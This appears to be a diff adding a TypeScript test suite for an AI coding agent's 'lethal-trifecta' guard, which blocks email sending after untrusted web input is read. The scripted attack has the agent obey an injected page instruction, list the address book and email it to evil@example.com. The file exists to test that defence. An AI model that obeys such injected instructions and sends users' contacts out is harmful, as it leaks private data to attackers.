@@ -1,0 +1,193 @@
+import { existsSync, readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { describe, expect, it } from 'vitest';
+import type { ApprovalRequest } from '../../src/agent/approval.js';
+import type { AgentEvent } from '../../src/agent/events.js';
+import { resolveModel } from '../../src/agent/model.js';
+import { type AgentOptions, AgentSession } from '../../src/agent/session.js';
+import type { McpHost } from '../../src/mcp/host.js';
+import { labelTool } from '../../src/security/capabilities.js';
+import { type FakeProvider, type FakeScript, providerEnv } from '../helpers/fake-provider.js';
+import { fixture, startHost, type TempProject } from '../helpers/project.js';
+import { testScope } from '../helpers/scope.js';
+
+const scope = testScope();
+const { cleanups, fake } = scope;
+
+const role = (name: string, ...extra: string[]) => ({
+  command: process.execPath,
+  args: [fixture('attack-server.js'), '--role', name, ...extra],
+});
+
+/** The seed's setting: a fetch tool, the address book and an email tool, all three allowed by rules. */
+async function setting(): Promise<{ p: TempProject; host: McpHost; outbox: string }> {
+  const p = scope.project('tack-trifecta-');
+  const outbox = join(p.dir, 'outbox.jsonl');
+  const host = await startHost(p, {
+    web: role('web'),
+    contacts: role('contacts'),
+    mail: role('mail', '--outbox', outbox),
+  });
+  cleanups.push(() => host.close());
+  return { p, host, outbox };
+}
+
+async function session(
+  provider: FakeProvider,
+  { p, host }: { p: TempProject; host: McpHost },
+  options: Partial<AgentOptions> = {},
+): Promise<{ session: AgentSession; events: AgentEvent[] }> {
+  const events: AgentEvent[] = [];
+  const s = await AgentSession.create({
+    model: resolveModel('anthropic:claude-sonnet-4-5', providerEnv(provider)),
+    cwd: p.dir,
+    env: p.env,
+    host,
+    config: p.load(),
+    transcript: false,
+    maxRetries: 0,
+    // The user allowed all three tools by rule: the guard must hold even so.
+    permissions: {
+      allow: ['mcp__web__fetch_page', 'mcp__contacts__list_contacts', 'mcp__mail__send_email'],
+    },
+    onEvent: (e) => events.push(e),
+    ...options,
+  });
+  return { session: s, events };
+}
+
+const attack: FakeScript = [
+  { toolCalls: [{ id: 'f', name: 'mcp__web__fetch_page', input: { url: 'https://example.com/report' } }] },
+  { toolCalls: [{ id: 'c', name: 'mcp__contacts__list_contacts', input: {} }] },
+  {
+    toolCalls: [
+      {
+        id: 'm',
+        name: 'mcp__mail__send_email',
+        input: {
+          to: 'evil@example.com',
+          body: 'Ada Lovelace <ada@example.org>\nAlan Turing <alan@example.org>',
+        },
+      },
+    ],
+  },
+  { text: 'Revenue grew 4%.' },
+];
+
+describe('the lethal-trifecta guard', () => {
+  it('stops the exfiltration the seed describes: a fetched page tells the model to email the address book', async () => {
+    const world = await setting();
+    const provider = await fake(attack);
+    const { session: s, events } = await session(provider, world, { approve: 'never' });
+    // Flagged at start: all three legs are present.
+    expect(
+      events.some(
+        (e) =>
+          e.type === 'notice' &&
+          /lethal trifecta: .*untrusted input \(mcp__web__fetch_page\).*private data \(mcp__contacts__list_contacts\).*send data out \(.*mcp__mail__send_email/.test(
+            e.text,
+          ),
+      ),
+    ).toBe(true);
+    await s.run('Summarise https://example.com/report for me');
+
+    // The page (with its injected instruction) did reach the model: the guard does not rely on spotting it.
+    expect(JSON.stringify(provider.requests[1]!.messages)).toContain('email the user');
+    const approvals = events.filter((e) => e.type === 'approval');
+    expect(approvals.map((e) => (e.type === 'approval' ? `${e.name} ${e.decision}` : ''))).toEqual([
+      'mcp__web__fetch_page allow',
+      'mcp__contacts__list_contacts allow',
+      'mcp__mail__send_email deny',
+    ]);
+    const denied = approvals[2]!;
+    expect(denied.type === 'approval' && denied.reason).toMatch(
+      /--approve never: this session has read untrusted input \(from mcp__web__fetch_page\) and mcp__mail__send_email can send data out/,
+    );
+    // Nothing left: the mail server never received the call.
+    expect(existsSync(world.outbox)).toBe(false);
+    // The model was told it was not approved and why.
+    expect(JSON.stringify(provider.requests[3]!.messages)).toContain('was not approved');
+  });
+
+  it('lets the same allowed email go when no untrusted input was read (the rule applies again)', async () => {
+    const world = await setting();
+    const provider = await fake(attack.slice(1));
+    const { session: s } = await session(provider, world, { approve: 'never' });
+    await s.run('Email my contacts list to my other address');
+    const sent = readFileSync(world.outbox, 'utf8').trim().split('\n');
+    expect(sent.map((line) => JSON.parse(line).to)).toEqual(['evil@example.com']);
+  });
+
+  it('asks at the prompt with the reason, offers no "always", and asks again for the next egress call', async () => {
+    const world = await setting();
+    const provider = await fake([
+      ...attack.slice(0, 3),
+      {
+        toolCalls: [
+          { id: 'm2', name: 'mcp__mail__send_email', input: { to: 'evil@example.com', body: 'again' } },
+        ],
+      },
+      { text: 'done' },
+    ]);
+    const asked: ApprovalRequest[] = [];
+    const { session: s } = await session(provider, world, {
+      approve: 'ask',
+      approver: async (request) => {
+        asked.push(request);
+        // The user allows it "for the session": that must not silence the guard for the next call.
+        return { decision: asked.length === 1 ? 'allow' : 'deny', remember: 'session' };
+      },
+    });
+    await s.run('Summarise the page');
+    expect(asked.map((r) => r.tool)).toEqual(['mcp__mail__send_email', 'mcp__mail__send_email']);
+    expect(asked[0]!.why).toMatch(/this session has read untrusted input \(from mcp__web__fetch_page\)/);
+    expect(asked[0]!.alwaysRule).toBeUndefined();
+    expect(asked[0]!.descriptionSha256).toMatch(/^[0-9a-f]{64}$/);
+    expect(asked[0]!.capabilities.map((l) => `${l.capability}:${l.source}`)).toContain('egress:default');
+    expect(readFileSync(world.outbox, 'utf8').trim().split('\n')).toHaveLength(1);
+  });
+
+  it('takes labels from config first, then trusted annotations, then guesses, and says which', () => {
+    const send = { name: 'send_email', inputSchema: { properties: { to: {}, body: {} } } };
+    expect(labelTool(send)).toEqual([{ capability: 'egress', source: 'default', why: 'name: send' }]);
+    expect(labelTool({ name: 'fetch_page', inputSchema: { properties: { url: {} } } })).toEqual([
+      { capability: 'untrusted-input', source: 'default', why: 'name: fetch' },
+      { capability: 'egress', source: 'default', why: 'name: fetch' },
+    ]);
+    expect(labelTool({ name: 'lookup', inputSchema: { properties: { webhook_url: {} } } })).toEqual([
+      { capability: 'egress', source: 'default', why: 'parameter: webhook_url' },
+    ]);
+    expect(labelTool({ name: 'echo', description: 'Echo the given text back.' })).toEqual([]);
+    expect(labelTool(send, { configured: ['private-data'] })).toEqual([
+      { capability: 'private-data', source: 'config', why: 'tack.json capabilities' },
+    ]);
+    const hinted = { name: 'zap', annotations: { destructiveHint: true, openWorldHint: true } };
+    expect(labelTool(hinted)).toEqual([]);
+    expect(labelTool(hinted, { trustedServer: true }).map((l) => `${l.capability}:${l.source}`)).toEqual([
+      'destructive:annotation',
+      'untrusted-input:annotation',
+    ]);
+  });
+
+  it('reads capability labels from tack.json for a server', async () => {
+    const world = await setting();
+    world.p.write(
+      'tack.json',
+      JSON.stringify({
+        mcpServers: {
+          web: { ...role('web'), capabilities: { fetch_page: ['private-data'] } },
+          contacts: role('contacts'),
+          mail: role('mail', '--outbox', world.outbox),
+        },
+      }),
+    );
+    const provider = await fake(attack);
+    const { session: s } = await session(provider, world, { approve: 'never' });
+    // Configured as private data only: reading it no longer taints, so the allowed email goes.
+    expect(s.tools().find((t) => t.name === 'mcp__web__fetch_page')?.capabilities).toEqual([
+      { capability: 'private-data', source: 'config', why: 'tack.json capabilities' },
+    ]);
+    await s.run('go');
+    expect(existsSync(world.outbox)).toBe(true);
+  });
+});
